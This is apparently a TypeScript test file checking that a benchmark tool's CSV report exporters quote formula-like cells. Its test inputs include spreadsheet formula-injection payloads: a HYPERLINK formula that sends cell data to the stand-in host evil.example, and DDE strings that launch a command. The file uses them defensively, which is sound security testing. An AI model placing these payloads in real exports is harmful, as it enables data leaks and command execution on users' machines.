/**
 * Every CSV cell through the one formula-safe encoder (docs/security.md, "Spreadsheet exports"): the real exporters of
 * the multiple-choice report (its tables, mentalbench-diseases.csv, mentalbench-clusters.csv, runs/*.csv) and of the
 * rubric-grading report (table1.csv, tags.csv, themes.csv, paired.csv, judge-agreement.csv), driven with hostile
 * candidate names, tags, judges, item ids, diseases and clusters, write no cell a spreadsheet would evaluate; the
 * intervals are two numeric columns. The judge-validation, statistics and screening CSVs are checked in
 * spreadsheet-exports.test.ts and spreadsheet-screening.test.ts.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { formatCsv, parsePythonCsv } from "../../app/formats/csv-text";
import { parseItems } from "../../app/mc-evaluation/domain/items";
import { responseRecord } from "../../app/mc-evaluation/domain/records";
import { buildReport, type LoadedRun } from "../../app/mc-evaluation/report";
import { writeReport } from "../../app/mc-evaluation/report-files.server";
import type { Evaluation } from "../../app/rubric-grading/domain/evaluation";
import { agreementCsv, pairedCsv, table1Csv, tagsCsv } from "../../app/rubric-grading/domain/report-files";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|calc!A0",
  "@SUM(1)",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
];

/** A cell a spreadsheet would evaluate: it starts with =, +, -, @, a tab or a CR and is not a plain number. */
const evaluated = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);

/** Asserts that no cell of `csv` would be evaluated, and that every hostile value in `expected` is there, quoted. */
function expectSafe(name: string, csv: string, expected: readonly string[]): void {
  const cells = parsePythonCsv(csv).flat();
  expect(cells.filter(evaluated), name).toEqual([]);
  for (const value of expected)
    expect(
      cells.some((c) => c.startsWith("'" + value)),
      `${name} holds ${value}, quoted`,
    ).toBe(true);
}

const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

describe("the one CSV writer", () => {
  it("quotes every hostile cell and keeps plain numbers", () => {
    const csv = formatCsv([HOSTILE, ["-0.25", "+3", "1e-3", "- low mood", "plain"]]);
    expect(parsePythonCsv(csv)).toEqual([HOSTILE.map((v) => "'" + v), ["-0.25", "+3", "1e-3", "'- low mood", "plain"]]);
  });
});

describe("the multiple-choice report's CSVs", () => {
  it("quote hostile diseases, clusters, item ids and model names in every file, and give intervals two columns", async () => {
    const [hyperlink, cmd, sum, plus, dde] = HOSTILE as [string, string, string, string, string];
    const parsed = parseItems(
      [
        { id: sum, type: "I", answer: "A. w", disease: hyperlink },
        { id: "2", type: "III", answer: "A & B) w, x", disease: dde },
        { id: "3", type: "IV", answer: "C. y", disease: plus },
      ]
        .map((i) => JSON.stringify({ question: "q", options: ["w", "x", "y", "z"], cluster: cmd, ...i }))
        .join("\n"),
      { csv: false },
    );
    const items = parsed.items;
    // The import warns of each formula-like value, as the older imports do; the values are kept.
    expect(parsed.warnings.map((w) => w.line)).toEqual([1, 2, 3]);
    expect(parsed.warnings[0]!.message).toBe(
      `id "@SUM(1)", disease ${JSON.stringify(hyperlink.slice(0, 40) + "…")}, cluster "=cmd|calc!A0" start like a spreadsheet formula: kept as given, and quoted in the CSVs meant for spreadsheets.`,
    );
    expect(items).toHaveLength(3);
    const run: LoadedRun = {
      dir: "r",
      run: {
        format: "concord-mc-run/1",
        model: { name: cmd, key: cmd, base_url: "u" },
        items_format: "mentalbench",
        seed: 0,
        decoding: { temperature: 0 },
        mentalbench_style: "paper",
        few_shot: null,
        prompts: {},
        num_items: 3,
        status: "complete",
        answered: 3,
      },
      records: items.map((it, i) => responseRecord(it, [], ["A", "A & B", "C"][i]!, 1, 0)),
      responsesSha256: "",
    };
    const report = buildReport([run], { reps: 10, seed: 0, alpha: 0.05 });
    const out = mkdtempSync(join(tmpdir(), "concord-mc-csv-"));
    dirs.push(out);
    await writeReport(report, [run], join(out, "report"), { version: "t", createdAt: "t", figures: false });
    const csvs: string[] = [];
    const walk = (d: string) =>
      readdirSync(d).forEach((f) =>
        statSync(join(d, f)).isDirectory() ? walk(join(d, f)) : f.endsWith(".csv") && csvs.push(join(d, f)),
      );
    walk(join(out, "report"));
    const names = csvs.map((p) => p.slice(out.length + "/report/".length)).sort();
    expect(names).toEqual(expect.arrayContaining(["mentalbench-clusters.csv", "mentalbench-diseases.csv"]));
    expect(names.some((n) => n.startsWith("runs/"))).toBe(true);
    for (const path of csvs) expectSafe(path, readFileSync(path, "utf8"), []);
    const text = (n: string) => readFileSync(join(out, "report", n), "utf8");
    expectSafe("mentalbench-diseases.csv", text("mentalbench-diseases.csv"), [hyperlink, dde, plus, cmd]);
    expectSafe("mentalbench-clusters.csv", text("mentalbench-clusters.csv"), [cmd]);
    expectSafe("runs/*.csv", text(names.find((n) => n.startsWith("runs/"))!), [sum, hyperlink, dde, cmd]);
  });
});

describe("the rubric-grading report's CSVs", () => {
  const [hyperlink, cmd, sum, plus, dde] = HOSTILE as [string, string, string, string, string];
  const estimate = (mean: number) => ({ mean, ci95: [mean - 0.1, mean + 0.1] as [number, number], bootstrapStd: 0.05 });
  const evaluation = {
    policy: "as_returned",
    table: [
      {
        candidate: cmd,
        rank: 1,
        panel: estimate(0.6),
        judges: { [sum]: estimate(0.6) },
        conversations: 3,
        refusals: 0,
        excluded: 0,
      },
      {
        candidate: hyperlink,
        rank: 2,
        panel: estimate(-0.2),
        judges: { [sum]: null },
        conversations: 3,
        refusals: 1,
        excluded: 1,
      },
    ],
    tags: [
      { candidate: cmd, tag: dde, panel: 0.5, n: 3, judges: { [sum]: 0.5 } },
      { candidate: hyperlink, tag: "theme:" + plus, panel: 0.1, n: 2, judges: { [sum]: null } },
      { candidate: hyperlink, tag: plus, panel: 0.1, n: 2, judges: { [sum]: null } },
    ],
    agreement: {
      candidates: [cmd, hyperlink],
      kendall: [{ a: sum, b: plus, tau: -0.5 }],
      grandMean: 0.4,
      judges: [{ judge: sum, mean: 0.4, severity: -0.1 }],
      selfPreference: [{ judge: sum, candidate: cmd, raw: 0.1, corrected: -0.05 }],
    },
    paired: [
      {
        a: cmd,
        b: hyperlink,
        difference: 0.8,
        ci95: [0.1, 1.2],
        p: 0.01,
        pHolm: 0.01,
        significant: true,
        significantHolm: true,
        n: 3,
      },
    ],
  } as unknown as Evaluation;

  it("table1.csv, tags.csv, themes.csv, paired.csv and judge-agreement.csv quote every hostile cell", () => {
    expectSafe("table1.csv", table1Csv(evaluation, [sum]), [cmd, hyperlink, sum]);
    expectSafe(
      "tags.csv",
      tagsCsv(evaluation, [sum], (t) => !t.startsWith("theme:")),
      [dde, plus, cmd, hyperlink, sum],
    );
    expectSafe(
      "themes.csv",
      tagsCsv(evaluation, [sum], (t) => t.startsWith("theme:")),
      [hyperlink, sum],
    );
    expectSafe("paired.csv", pairedCsv(evaluation), [cmd, hyperlink]);
    expectSafe("judge-agreement.csv", agreementCsv(evaluation, [{ a: sum, b: dde, n: 3, agreement: 1, kappa: -0.2 }]), [
      sum,
      plus,
      cmd,
      dde,
    ]);
    // Negative figures stay numbers; the panel's interval is two numeric columns.
    const [header, , second] = parsePythonCsv(table1Csv(evaluation, [sum]));
    expect(second![header!.indexOf("panel")]).toBe("-0.2000");
    expect([second![header!.indexOf("ci95_low")], second![header!.indexOf("ci95_high")]]).toEqual([
      "-0.3000",
      "-0.1000",
    ]);
  });
});
